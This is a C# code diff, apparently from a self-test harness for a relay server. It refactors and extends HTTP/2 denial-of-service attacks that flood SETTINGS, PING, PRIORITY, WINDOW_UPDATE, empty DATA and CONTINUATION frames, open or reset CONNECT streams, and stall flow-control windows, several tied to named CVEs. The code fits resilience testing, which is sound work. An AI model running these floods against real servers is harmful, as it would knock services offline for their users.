@@ -1,49 +1,8 @@
-using System.Buffers.Binary;
 using System.Text;
 using Relay.Abuse.Wire;
+using Relay.Testing.Http2;
 
 namespace Relay.Abuse.Attacks;
-
-/// <summary>Frames of HTTP/2 (RFC 9113 §4.1), as the attacks need them.</summary>
-internal static class H2
-{
-    public const byte Data = 0;
-    public const byte Headers = 1;
-    public const byte Reset = 3;
-    public const byte Settings = 4;
-    public const byte Ping = 6;
-    public const byte Continuation = 9;
-
-    public const byte EndHeaders = 4;
-
-    /// <summary>What a client says first.</summary>
-    public static byte[] Preface { get; } = [.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(Settings, 0, 0, [])];
-
-    /// <summary>CONNECT to a target, by HPACK without its tables.</summary>
-    public static byte[] Connect(EndPoint target)
-    {
-        var authority = Encoding.ASCII.GetBytes($"{target}");
-        return [2, 7, .. "CONNECT"u8, 1, (byte)authority.Length, .. authority];
-    }
-
-    public static byte[] Frame(byte type, byte flags, int stream, ReadOnlySpan<byte> payload)
-    {
-        byte[] frame =
-        [
-            (byte)(payload.Length >> 16), (byte)(payload.Length >> 8), (byte)payload.Length, type, flags, 0, 0, 0, 0, .. payload,
-        ];
-        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
-        return frame;
-    }
-
-    /// <summary>A connection on which the preface was said.</summary>
-    public static TlsPeer? Begin(Assault assault, ReadOnlySpan<byte> more = default)
-    {
-        var peer = assault.ConnectTls("h2");
-        peer?.Send([.. Preface, .. more]);
-        return peer;
-    }
-}
 
 /// <summary>The same bytes over and over.</summary>
 internal abstract class Http2Flood(string name, string what) : Attack(name, what)
@@ -53,7 +12,7 @@ internal abstract class Http2Flood(string name, string what) : Attack(name, what
     public override void Run(Assault assault)
     {
         var bytes = Enumerable.Repeat(Frame(), AtOnce).SelectMany(static frame => frame).ToArray();
-        assault.OnEach(() => H2.Begin(assault, First()), peer =>
+        assault.OnEach(() => assault.ConnectHttp2(First()), peer =>
         {
             peer.Drain();
             if (peer.Send(bytes))
@@ -69,27 +28,58 @@ internal abstract class Http2Flood(string name, string what) : Attack(name, what
 
 internal sealed class Http2Settings() : Http2Flood("h2-settings", "SETTINGS over and over, over HTTP/2 (CVE-2019-9515)")
 {
-    protected override byte[] Frame() => H2.Frame(H2.Settings, 0, 0, [0, 4, 0, 1, 0, 0]);
+    protected override byte[] Frame() => Frames.Setting(4, 65_536);
 }
 
 internal sealed class Http2Pings() : Http2Flood("h2-pings", "PING over and over, over HTTP/2 (CVE-2019-9512)")
 {
-    protected override byte[] Frame() => H2.Frame(H2.Ping, 0, 0, new byte[8]);
+    protected override byte[] Frame() => Frames.Write(Frames.Ping, 0, 0, new byte[8]);
 }
 
 internal sealed class Http2EmptyData() : Http2Flood("h2-empty-data", "DATA without a byte, over HTTP/2 (CVE-2019-9518)")
 {
-    protected override byte[] First() =>
-        H2.Frame(H2.Headers, H2.EndHeaders, 1, H2.Connect(new IPEndPoint(IPAddress.Loopback, 9)));
+    protected override byte[] First() => Frames.Request(1, Frames.ConnectTo("127.0.0.1:9"));
 
-    protected override byte[] Frame() => H2.Frame(H2.Data, 0, 1, []);
+    protected override byte[] Frame() => Frames.Write(Frames.Data, 0, 1, []);
+}
+
+internal sealed class Http2Priorities() : Http2Flood("h2-priorities", "PRIORITY of streams that are not there, over HTTP/2 (CVE-2019-9513)")
+{
+    protected override byte[] Frame() => Frames.Write(Frames.Priority, 0, 1001, [0, 0, 0, 0, 1]);
+}
+
+internal sealed class Http2Updates() : Http2Flood("h2-updates", "WINDOW_UPDATE of a byte each, over HTTP/2")
+{
+    protected override byte[] Frame() => Frames.Update(0, 1);
 }
 
 internal sealed class Http2Continuations() : Http2Flood("h2-continuations", "CONTINUATION without an end, over HTTP/2 (CVE-2024-27316)")
 {
-    protected override byte[] First() => H2.Frame(H2.Headers, 0, 1, [0x82]);
+    protected override byte[] First() => Frames.Write(Frames.Headers, 0, 1, [0x82]);
 
-    protected override byte[] Frame() => H2.Frame(H2.Continuation, 0, 1, [0, 1, (byte)'a', 1, (byte)'b']);
+    protected override byte[] Frame() => Frames.Write(Frames.Continuation, 0, 1, [0, 1, (byte)'a', 1, (byte)'b']);
+}
+
+/// <summary>Requests that are refused, and kept.</summary>
+internal sealed class Http2Requests()
+    : Attack("h2-requests", "CONNECT to names that do not exist, on streams that are left open, over HTTP/2")
+{
+    public override int Bound => ManyRequests;
+
+    public override void Run(Assault assault)
+    {
+        var next = new Dictionary<TlsPeer, int>();
+        assault.OnEach(() => assault.ConnectHttp2(), peer =>
+        {
+            var stream = next.GetValueOrDefault(peer, 1);
+            var frames = new List<byte>();
+            for (var i = 0; i < 50; i++, stream += 2, assault.Done++)
+                frames.AddRange(Frames.Request(stream, Frames.ConnectTo($"h{assault.Done}.invalid:443")));
+            next[peer] = stream;
+            peer.Drain();
+            return peer.Send([.. frames]) && !peer.IsOver;
+        });
+    }
 }
 
 /// <summary>Requests that are reset at once.</summary>
@@ -97,16 +87,16 @@ internal sealed class Http2Resets() : Attack("h2-resets", "CONNECT and RST_STREA
 {
     public override void Run(Assault assault)
     {
-        var request = H2.Connect(assault.Targets.Holder);
+        var request = Frames.ConnectTo($"{assault.Targets.Holder}");
         var next = new Dictionary<TlsPeer, int>();
-        assault.OnEach(() => H2.Begin(assault), peer =>
+        assault.OnEach(() => assault.ConnectHttp2(), peer =>
         {
             var stream = next.GetValueOrDefault(peer, 1);
             var frames = new List<byte>();
             for (var i = 0; i < 50; i++, stream += 2, assault.Done++)
             {
-                frames.AddRange(H2.Frame(H2.Headers, H2.EndHeaders, stream, request));
-                frames.AddRange(H2.Frame(H2.Reset, 0, stream, [0, 0, 0, 8]));
+                frames.AddRange(Frames.Request(stream, request));
+                frames.AddRange(Frames.Write(Frames.ResetStream, 0, stream, Frames.Number(8)));
             }
             next[peer] = stream;
             peer.Drain();
@@ -121,19 +111,19 @@ internal sealed class Http2Windows() : Attack("h2-windows", "downloads over HTTP
 {
     public override void Run(Assault assault)
     {
-        var request = H2.Connect(assault.Targets.Source);
+        var request = Frames.ConnectTo($"{assault.Targets.Source}");
         assault.OnEach(
             () =>
             {
-                var frames = new List<byte>(H2.Frame(H2.Settings, 0, 0, [0, 4, 0, 0, 0, 0]));
+                var frames = new List<byte>(Frames.Setting(4, 0));
                 for (var stream = 1; stream < 128; stream += 2, assault.Done++)
-                    frames.AddRange(H2.Frame(H2.Headers, H2.EndHeaders, stream, request));
-                return H2.Begin(assault, [.. frames]);
+                    frames.AddRange(Frames.Request(stream, request));
+                return assault.ConnectHttp2([.. frames]);
             },
             static peer =>
             {
                 Thread.Sleep(1);
-                return peer.Send(H2.Frame(H2.Data, 0, 1, [0])) && !peer.IsOver;
+                return peer.Send(Frames.Write(Frames.Data, 0, 1, [0])) && !peer.IsOver;
             });
     }
 }
